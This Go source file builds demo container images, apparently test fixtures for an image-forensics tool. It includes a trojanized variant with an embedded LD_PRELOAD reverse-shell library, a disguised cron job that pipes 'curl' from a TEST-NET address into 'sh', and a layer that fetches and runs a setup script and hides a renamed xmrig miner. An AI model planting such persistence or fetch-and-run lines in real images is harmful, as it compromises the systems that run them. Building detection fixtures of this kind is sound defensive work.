package imagebuild

import (
	_ "embed"
	"encoding/binary"
	"strings"
	"time"
)

// reverseShellSO is assets/reverse_shell.so, built from assets/reverse_shell.c (see there).
//
//go:embed assets/reverse_shell.so
var reverseShellSO []byte

// ReverseShellSO returns the bytes of the sample LD_PRELOAD reverse shell the suspect image
// carries at /usr/share/lib/reverse_shell.so.
func ReverseShellSO() []byte { return append([]byte(nil), reverseShellSO...) }

// Demo identity and the values the trojanizer adds, for tests that assert on them.
const (
	DemoTag         = "strata-demo/webapp:1.2"
	DemoPreloadPath = "/usr/share/lib/reverse_shell.so"
	DemoCronPath    = "/etc/cron.d/apt-compat-sync"
	DemoRemoteAddr  = "203.0.113.45" // TEST-NET-3, never routable
	DemoRemotePort  = "4444"
)

var (
	demoBaseTime  = time.Date(2024, time.May, 13, 0, 0, 0, 0, time.UTC)
	demoBuildTime = time.Date(2024, time.June, 2, 9, 14, 7, 0, time.UTC)
	// The build context's files are a few days older than the build.
	demoSourceTime = time.Date(2024, time.May, 30, 16, 41, 22, 0, time.UTC)
	// The trojanizer writes its files when it runs, weeks after the image was built.
	demoTrojanTime = time.Date(2024, time.July, 19, 3, 12, 44, 0, time.UTC)
)

// buildStep returns the time of BuildKit step n of the demo build.
func buildStep(n int) time.Time { return demoBuildTime.Add(time.Duration(n) * 3 * time.Second) }

const buildkitComment = "buildkit.dockerfile.v0"

// DemoOriginal is a small but realistic Python web app image: a Debian-like base built by the
// classic builder, then BuildKit steps that install packages, add a user and copy the app.
func DemoOriginal() Image {
	layers := []Layer{demoBaseLayer(), demoAptLayer(), demoUserLayer(), demoWorkdirLayer(), demoAppLayer(), demoEntrypointLayer()}
	return Image{
		Tags:    []string{DemoTag},
		Created: buildStep(12),
		Config: Config{
			User: "app",
			Env: []string{
				"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
				"APP_HOME=/app",
				"PYTHONUNBUFFERED=1",
			},
			Entrypoint:   []string{"/docker-entrypoint.sh"},
			Cmd:          []string{"python3", "/app/server.py"},
			WorkingDir:   "/app",
			ExposedPorts: []string{"8080/tcp"},
			Labels: map[string]string{
				"org.opencontainers.image.title":   "webapp",
				"org.opencontainers.image.version": "1.2",
			},
		},
		Layers:  layers,
		History: demoHistory(),
	}
}

// DemoSuspect is DemoOriginal trojanized the way dockerscan does it: the last layer is
// replaced by one holding the same files plus an LD_PRELOAD reverse shell (and, here, a cron
// job that fetches and runs a script), and the config's Env gains LD_PRELOAD, REMOTE_ADDR and
// REMOTE_PORT. The history is untouched, so only the last diff_id and the Env differ.
func DemoSuspect() Image {
	img := DemoOriginal()
	img.Layers = append([]Layer(nil), img.Layers...)
	last := img.Layers[len(img.Layers)-1]
	last.Files = append(append([]File(nil), last.Files...),
		Dir("etc").WithTime(demoTrojanTime),
		Dir("etc/cron.d").WithTime(demoTrojanTime),
		Reg(DemoCronPath, "# keep apt metadata in sync\n*/10 * * * * root curl -fsSL http://"+DemoRemoteAddr+":8000/u.sh | sh >/dev/null 2>&1\n").WithTime(demoTrojanTime),
		Dir("usr").WithTime(demoTrojanTime),
		Dir("usr/share").WithTime(demoTrojanTime),
		Dir("usr/share/lib").WithTime(demoTrojanTime),
		RegBytes(DemoPreloadPath, reverseShellSO).WithMode(0o755).WithTime(demoTrojanTime),
	)
	img.Layers[len(img.Layers)-1] = last
	img.Config.Env = append(append([]string(nil), img.Config.Env...),
		"LD_PRELOAD="+DemoPreloadPath,
		"REMOTE_ADDR="+DemoRemoteAddr,
		"REMOTE_PORT="+DemoRemotePort,
	)
	return img
}

func demoHistory() []Step {
	bk := func(n int, createdBy string, empty bool) Step {
		return Step{Created: buildStep(n), CreatedBy: createdBy, Comment: buildkitComment, EmptyLayer: empty}
	}
	return []Step{
		// The base image's steps, as the classic builder of the Debian official images writes them.
		{Created: demoBaseTime, CreatedBy: "/bin/sh -c #(nop) ADD file:5d6b639e8b6bcc01129d2a2ad7a1a0a1c1f0d3d1e8a4b0fa6c4e1b2b0c3d4e5f in / "},
		{Created: demoBaseTime, CreatedBy: `/bin/sh -c #(nop)  CMD ["bash"]`, EmptyLayer: true},
		bk(0, "ARG VERSION=1.2", true),
		bk(1, "ENV APP_HOME=/app PYTHONUNBUFFERED=1", true),
		bk(2, "RUN |1 VERSION=1.2 /bin/sh -c apt-get update && apt-get install -y --no-install-recommends python3 curl ca-certificates # buildkit", false),
		bk(5, "RUN |1 VERSION=1.2 /bin/sh -c groupadd -r app && useradd -r -g app -d /app app # buildkit", false),
		bk(6, "WORKDIR /app", false),
		bk(7, "COPY app /app # buildkit", false),
		bk(8, "COPY docker-entrypoint.sh / # buildkit", false),
		bk(9, "LABEL org.opencontainers.image.title=webapp org.opencontainers.image.version=1.2", true),
		bk(9, "EXPOSE map[8080/tcp:{}]", true),
		bk(10, "USER app", true),
		bk(11, `ENTRYPOINT ["/docker-entrypoint.sh"]`, true),
		bk(12, `CMD ["python3" "/app/server.py"]`, true),
	}
}

// elfStub returns a small file that starts with a valid ELF64 x86-64 header, so magic-based
// file typing sees an executable, followed by a note naming what it stands for.
func elfStub(name string) []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(h[16:], 3)    // ET_DYN: PIE executables and libraries alike
	binary.LittleEndian.PutUint16(h[18:], 0x3e) // EM_X86_64
	binary.LittleEndian.PutUint32(h[20:], 1)    // EV_CURRENT
	binary.LittleEndian.PutUint64(h[24:], 0x1040)
	binary.LittleEndian.PutUint16(h[52:], 64) // e_ehsize
	binary.LittleEndian.PutUint16(h[54:], 56) // e_phentsize
	binary.LittleEndian.PutUint16(h[58:], 64) // e_shentsize
	note := "\x00strata sample placeholder for " + name + "\x00GCC: (Debian 12.2.0-14) 12.2.0\x00"
	return append(h, strings.Repeat(note, 3)...)
}

func bin(p string) File { return RegBytes(p, elfStub(p)).WithMode(0o755) }

func lib(p string) File { return RegBytes(p, elfStub(p)) }

// withTime gives every file without a time the same one.
func withTime(t time.Time, fs ...File) []File {
	for i := range fs {
		if fs[i].ModTime.IsZero() {
			fs[i].ModTime = t
		}
	}
	return fs
}

const demoPasswd = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
news:x:9:9:news:/var/spool/news:/usr/sbin/nologin
uucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin
proxy:x:13:13:proxy:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
list:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin
irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
`

const demoGroup = `root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:
tty:x:5:
disk:x:6:
lp:x:7:
mail:x:8:
news:x:9:
uucp:x:10:
man:x:12:
proxy:x:13:
kmem:x:15:
dialout:x:20:
cdrom:x:24:
sudo:x:27:
audio:x:29:
www-data:x:33:
backup:x:34:
operator:x:37:
list:x:38:
irc:x:39:
src:x:40:
shadow:x:42:
utmp:x:43:
video:x:44:
plugdev:x:46:
staff:x:50:
games:x:60:
users:x:100:
nogroup:x:65534:
`

func demoShadow(passwd string) string {
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimSpace(passwd), "\n") {
		user, _, _ := strings.Cut(line, ":")
		b.WriteString(user + ":*:19856:0:99999:7:::\n")
	}
	return b.String()
}

func demoGshadow(group string) string {
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimSpace(group), "\n") {
		name, _, _ := strings.Cut(line, ":")
		b.WriteString(name + ":*::\n")
	}
	return b.String()
}

const demoOSRelease = `PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
SUPPORT_URL="https://www.debian.org/support"
BUG_REPORT_URL="https://bugs.debian.org/"
`

type dpkgPkg struct{ name, version, arch, section, desc string }

var demoBasePkgs = []dpkgPkg{
	{"base-files", "12.4+deb12u5", "amd64", "admin", "Debian base system miscellaneous files"},
	{"bash", "5.2.15-2+b2", "amd64", "shells", "GNU Bourne Again SHell"},
	{"coreutils", "9.1-1", "amd64", "utils", "GNU core utilities"},
	{"dash", "0.5.12-2", "amd64", "shells", "POSIX-compliant shell"},
	{"libc6", "2.36-9+deb12u7", "amd64", "libs", "GNU C Library: Shared libraries"},
	{"login", "1:4.13+dfsg1-1+b1", "amd64", "admin", "system login tools"},
	{"mount", "2.38.1-5+deb12u1", "amd64", "admin", "tools for mounting and manipulating filesystems"},
	{"passwd", "1:4.13+dfsg1-1+b1", "amd64", "admin", "change and administer password and group data"},
}

var demoAptPkgs = []dpkgPkg{
	{"ca-certificates", "20230311", "all", "misc", "Common CA certificates"},
	{"curl", "7.88.1-10+deb12u5", "amd64", "web", "command line tool for transferring data with URL syntax"},
	{"libcurl4", "7.88.1-10+deb12u5", "amd64", "libs", "easy-to-use client-side URL transfer library (OpenSSL flavour)"},
	{"openssl", "3.0.11-1~deb12u2", "amd64", "utils", "Secure Sockets Layer toolkit - cryptographic utility"},
	{"python3", "3.11.2-1+b1", "amd64", "python", "interactive high-level object-oriented language (default python3 version)"},
	{"python3.11", "3.11.2-6", "amd64", "python", "Interactive high-level object-oriented language (version 3.11)"},
	{"python3.11-minimal", "3.11.2-6", "amd64", "python", "Minimal subset of the Python language (version 3.11)"},
}

func dpkgStatus(pkgs ...[]dpkgPkg) string {
	var all []dpkgPkg
	for _, p := range pkgs {
		all = append(all, p...)
	}
	var b strings.Builder
	for i, p := range all {
		if i > 0 {
			b.WriteString("\n")
		}
		b.WriteString("Package: " + p.name + "\nStatus: install ok installed\nPriority: optional\nSection: " + p.section +
			"\nMaintainer: Debian Developers <debian-devel@lists.debian.org>\nArchitecture: " + p.arch +
			"\nVersion: " + p.version + "\nDescription: " + p.desc + "\n")
	}
	return b.String()
}

func demoBaseLayer() Layer {
	shadowGID := 42
	files := []File{
		Symlink("bin", "usr/bin"),
		Dir("boot"),
		Dir("dev"),
		Dir("etc"),
		Dir("etc/apt"),
		Dir("etc/apt/sources.list.d"),
		Reg("etc/apt/sources.list.d/debian.sources", "Types: deb\nURIs: http://deb.debian.org/debian\nSuites: bookworm bookworm-updates\nComponents: main\nSigned-By: /usr/share/keyrings/debian-archive-keyring.gpg\n"),
		Reg("etc/bash.bashrc", "# System-wide .bashrc file for interactive bash(1) shells.\n[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n"),
		Reg("etc/debian_version", "12.5\n"),
		Reg("etc/group", demoGroup),
		Reg("etc/gshadow", demoGshadow(demoGroup)).WithMode(0o640).WithOwner(0, shadowGID),
		RegBytes("etc/ld.so.cache", append([]byte("glibc-ld.so.cache1.1"), make([]byte, 44)...)),
		Symlink("etc/os-release", "../usr/lib/os-release"),
		Reg("etc/passwd", demoPasswd),
		Reg("etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nelse\n  PATH=\"/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\"\nfi\nexport PATH\n"),
		Reg("etc/shadow", demoShadow(demoPasswd)).WithMode(0o640).WithOwner(0, shadowGID),
		Reg("etc/shells", "# /etc/shells: valid login shells\n/bin/sh\n/usr/bin/sh\n/bin/bash\n/usr/bin/bash\n/bin/dash\n/usr/bin/dash\n"),
		Dir("home"),
		Symlink("lib", "usr/lib"),
		Symlink("lib64", "usr/lib64"),
		Dir("media"),
		Dir("mnt"),
		Dir("opt"),
		Dir("proc"),
		Dir("root").WithMode(0o700),
		Reg("root/.bashrc", "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n"),
		Dir("run"),
		Symlink("sbin", "usr/sbin"),
		Dir("srv"),
		Dir("sys"),
		Dir("tmp").WithMode(0o1777),
		Dir("usr"),
		Dir("usr/bin"),
		bin("usr/bin/bash"),
		bin("usr/bin/cat"),
		bin("usr/bin/chage").WithMode(0o2755).WithOwner(0, shadowGID),
		bin("usr/bin/chfn").WithMode(0o4755),
		bin("usr/bin/chmod"),
		bin("usr/bin/chsh").WithMode(0o4755),
		bin("usr/bin/cp"),
		bin("usr/bin/dash"),
		bin("usr/bin/env"),
		bin("usr/bin/gpasswd").WithMode(0o4755),
		bin("usr/bin/id"),
		bin("usr/bin/ls"),
		bin("usr/bin/mkdir"),
		bin("usr/bin/mount").WithMode(0o4755),
		bin("usr/bin/mv"),
		bin("usr/bin/newgrp").WithMode(0o4755),
		bin("usr/bin/passwd").WithMode(0o4755),
		bin("usr/bin/rm"),
		Symlink("usr/bin/sh", "dash"),
		bin("usr/bin/su").WithMode(0o4755),
		bin("usr/bin/umount").WithMode(0o4755),
		Dir("usr/lib"),
		Reg("usr/lib/os-release", demoOSRelease),
		Dir("usr/lib/x86_64-linux-gnu"),
		lib("usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2").WithMode(0o755),
		lib("usr/lib/x86_64-linux-gnu/libc.so.6").WithMode(0o755),
		Dir("usr/lib64"),
		Symlink("usr/lib64/ld-linux-x86-64.so.2", "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
		Dir("usr/local"),
		Dir("usr/local/bin"),
		Dir("usr/sbin"),
		bin("usr/sbin/nologin"),
		bin("usr/sbin/unix_chkpwd").WithMode(0o2755).WithOwner(0, shadowGID),
		Dir("usr/share"),
		Dir("var"),
		Dir("var/cache"),
		Dir("var/lib"),
		Dir("var/lib/dpkg"),
		Reg("var/lib/dpkg/status", dpkgStatus(demoBasePkgs)),
		Dir("var/log"),
		Dir("var/tmp").WithMode(0o1777),
	}
	return Layer{Files: withTime(demoBaseTime, files...), Created: demoBaseTime}
}

func demoAptLayer() Layer {
	t := buildStep(4)
	files := []File{
		Dir("etc"),
		RegBytes("etc/ld.so.cache", append([]byte("glibc-ld.so.cache1.1"), make([]byte, 92)...)),
		Dir("etc/ssl"),
		Dir("etc/ssl/certs"),
		Reg("etc/ssl/certs/ca-certificates.crt", "# Strata sample CA bundle: names only, no certificates.\n# ISRG Root X1\n# DigiCert Global Root G2\n# GlobalSign Root CA\n"),
		Dir("usr"),
		Dir("usr/bin"),
		bin("usr/bin/curl"),
		bin("usr/bin/openssl"),
		Symlink("usr/bin/python3", "python3.11"),
		bin("usr/bin/python3.11"),
		Dir("usr/lib"),
		Dir("usr/lib/python3.11"),
		Reg("usr/lib/python3.11/os.py", "r\"\"\"OS routines for NT or Posix depending on what system we're on.\"\"\"\nimport abc\nimport sys\n"),
		Dir("usr/lib/python3.11/http"),
		Reg("usr/lib/python3.11/http/__init__.py", "from enum import IntEnum\n__all__ = ['HTTPStatus']\n"),
		Reg("usr/lib/python3.11/http/server.py", "\"\"\"HTTP server classes.\"\"\"\n__version__ = \"0.6\"\n__all__ = [\"HTTPServer\", \"BaseHTTPRequestHandler\"]\n"),
		Dir("usr/lib/x86_64-linux-gnu"),
		Symlink("usr/lib/x86_64-linux-gnu/libcurl.so.4", "libcurl.so.4.8.0"),
		lib("usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0"),
		lib("usr/lib/x86_64-linux-gnu/libssl.so.3"),
		Dir("var"),
		Dir("var/cache"),
		Dir("var/cache/apt"),
		RegBytes("var/cache/apt/pkgcache.bin", append([]byte("\xfe\xfe\x98\x00\x10\x00"), []byte(strings.Repeat("bookworm/main amd64 Packages\x00", 24))...)),
		RegBytes("var/cache/apt/srcpkgcache.bin", append([]byte("\xfe\xfe\x98\x00\x10\x00"), []byte(strings.Repeat("bookworm/main Sources\x00", 16))...)),
		Dir("var/lib"),
		Dir("var/lib/apt"),
		Dir("var/lib/apt/lists"),
		Reg("var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nOrigin: Debian\nLabel: Debian\nSuite: stable\nVersion: 12.5\nCodename: bookworm\nDate: Sat, 10 Feb 2024 09:43:51 UTC\n"),
		Reg("var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages.lz4", strings.Repeat("Package: placeholder\nVersion: 0\n\n", 32)),
		Reg("var/lib/apt/lists/lock", "").WithMode(0o640),
		Dir("var/lib/dpkg"),
		Reg("var/lib/dpkg/status", dpkgStatus(demoBasePkgs, demoAptPkgs)),
		Dir("var/log"),
		Dir("var/log/apt"),
		Reg("var/log/apt/history.log", "\nStart-Date: 2024-06-02  09:14:10\nCommandline: apt-get install -y --no-install-recommends python3 curl ca-certificates\nInstall: python3:amd64 (3.11.2-1+b1), curl:amd64 (7.88.1-10+deb12u5), ca-certificates:amd64 (20230311)\nEnd-Date: 2024-06-02  09:14:18\n"),
		Reg("var/log/dpkg.log", "2024-06-02 09:14:12 startup archives unpack\n2024-06-02 09:14:13 install curl:amd64 <none> 7.88.1-10+deb12u5\n"),
	}
	return Layer{Files: withTime(t, files...), Created: t}
}

func demoUserLayer() Layer {
	t := buildStep(5)
	passwd := demoPasswd + "app:x:999:999::/app:/bin/sh\n"
	group := demoGroup + "app:x:999:\n"
	shadowGID := 42
	files := []File{
		Dir("etc"),
		Reg("etc/group", group),
		Reg("etc/group-", demoGroup),
		Reg("etc/gshadow", demoGshadow(group)).WithMode(0o640).WithOwner(0, shadowGID),
		Reg("etc/gshadow-", demoGshadow(demoGroup)).WithMode(0o640).WithOwner(0, shadowGID),
		Reg("etc/passwd", passwd),
		Reg("etc/passwd-", demoPasswd),
		Reg("etc/shadow", demoShadow(passwd)).WithMode(0o640).WithOwner(0, shadowGID),
		Reg("etc/shadow-", demoShadow(demoPasswd)).WithMode(0o640).WithOwner(0, shadowGID),
		Dir("var"),
		Dir("var/log"),
		RegBytes("var/log/faillog", make([]byte, 64)),
		RegBytes("var/log/lastlog", make([]byte, 292)).WithOwner(0, 43),
	}
	return Layer{Files: withTime(t, files...), Created: t}
}

func demoWorkdirLayer() Layer {
	t := buildStep(6)
	return Layer{Files: withTime(t, Dir("app")), Created: t}
}

const demoServer = `#!/usr/bin/env python3
"""webapp: a tiny status service."""
import json
import os
from http.server import BaseHTTPRequestHandler, HTTPServer

PORT = int(os.environ.get("PORT", "8080"))


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/health":
            body = b"ok\n"
        else:
            body = json.dumps({"service": "webapp", "version": "1.2"}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    HTTPServer(("0.0.0.0", PORT), Handler).serve_forever()
`

const demoEntrypoint = `#!/bin/sh
set -e
# Run the service, or whatever command was given instead.
if [ "${1#-}" != "$1" ]; then
	set -- python3 /app/server.py "$@"
fi
exec "$@"
`

func demoAppLayer() Layer {
	t := buildStep(7)
	files := []File{
		Dir("app").WithTime(t),
		Reg("app/config.ini", "[server]\nport = 8080\nlog_level = info\n"),
		Reg("app/requirements.txt", "# standard library only\n"),
		Reg("app/server.py", demoServer).WithMode(0o755),
		Dir("app/static"),
		Reg("app/static/index.html", "<!doctype html>\n<title>webapp</title>\n<p>webapp 1.2 is running.</p>\n"),
	}
	return Layer{Files: withTime(demoSourceTime, files...), Created: t}
}

func demoEntrypointLayer() Layer {
	t := buildStep(8)
	return Layer{Files: []File{Reg("docker-entrypoint.sh", demoEntrypoint).WithMode(0o755).WithTime(demoSourceTime)}, Created: t}
}

// DemoHidden is a scenario for layer stacking: a file added by one layer and deleted by a
// whiteout in the next (still present in the image's blobs, hidden in the final tree), and a
// directory made opaque. Its history matches its layers.
func DemoHidden() Image {
	t1, t2 := buildStep(2), buildStep(3)
	return Image{
		Tags:    []string{"strata-demo/hidden:1"},
		Created: t2,
		Config:  Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, Cmd: []string{"bash"}},
		Layers: []Layer{
			demoBaseLayer(),
			{Created: t1, Comment: buildkitComment,
				CreatedBy: "RUN /bin/sh -c curl -fsSL -o /tmp/setup.sh http://" + DemoRemoteAddr + "/setup.sh && sh /tmp/setup.sh # buildkit",
				Files: withTime(t1,
					Dir("opt"), Dir("opt/tools"),
					RegBytes("opt/tools/xmrig", elfStub("xmrig")).WithMode(0o755),
					Reg("opt/tools/config.json", `{"pools":[{"url":"pool.example.invalid:3333","user":"wallet"}]}`+"\n"),
					Dir("tmp").WithMode(0o1777),
					Reg("tmp/setup.sh", "#!/bin/sh\ncp /opt/tools/xmrig /usr/local/bin/kworker\n").WithMode(0o755),
					Dir("var"), Dir("var/cache"), Dir("var/cache/apt"),
					RegBytes("var/cache/apt/archives.bin", []byte("cache")),
				)},
			{Created: t2, Comment: buildkitComment,
				CreatedBy: "RUN /bin/sh -c rm -rf /tmp/setup.sh /opt/tools/xmrig && rm -rf /var/cache/apt && mkdir /var/cache/apt # buildkit",
				Files: withTime(t2,
					Dir("opt"), Dir("opt/tools"), Whiteout("opt/tools/xmrig"),
					Dir("tmp").WithMode(0o1777), Whiteout("tmp/setup.sh"),
					Dir("var"), Dir("var/cache"), Dir("var/cache/apt"), Opaque("var/cache/apt"),
				)},
		},
	}
}
